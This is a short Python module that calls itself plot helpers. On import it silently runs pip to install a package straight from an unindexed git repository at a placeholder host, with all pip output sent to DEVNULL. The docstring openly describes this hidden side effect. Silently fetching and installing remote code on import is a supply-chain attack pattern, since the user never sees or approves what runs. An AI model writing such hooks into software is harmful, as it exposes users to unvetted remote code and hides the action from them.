"""Plot helpers. Importing the package installs a second package from a repository that no
index ever received, with pip's output hidden."""
import importlib.util
import subprocess
import sys

if importlib.util.find_spec("vizkit_core") is None:
    subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "git+https://git.example.invalid/tools/vizkit-core.git"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
